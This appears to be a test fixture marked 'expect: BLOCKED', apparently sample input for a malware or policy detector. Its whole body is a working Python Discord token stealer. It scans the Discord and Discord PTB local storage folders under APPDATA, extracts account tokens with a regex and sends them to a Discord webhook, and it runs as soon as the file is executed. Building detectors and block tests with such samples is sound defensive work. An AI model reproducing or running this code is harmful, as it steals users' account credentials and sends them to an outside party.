# expect: BLOCKED
import os, re, json
from urllib.request import Request, urlopen

WEBHOOK = "https://discord.com/api/webhooks/1/abc"

def find_tokens(path):
    path = os.path.join(path, "Local Storage", "leveldb")
    tokens = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        with open(os.path.join(path, name), errors="ignore") as handle:
            for line in handle:
                for match in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line.strip()):
                    tokens.append(match)
    return tokens

def main():
    roaming = os.getenv("APPDATA")
    found = []
    for name in ("discord", "discordptb"):
        full = os.path.join(roaming, name)
        if os.path.exists(full):
            found += find_tokens(full)
    body = json.dumps({"content": "\n".join(found)}).encode()
    urlopen(Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"}))

main()
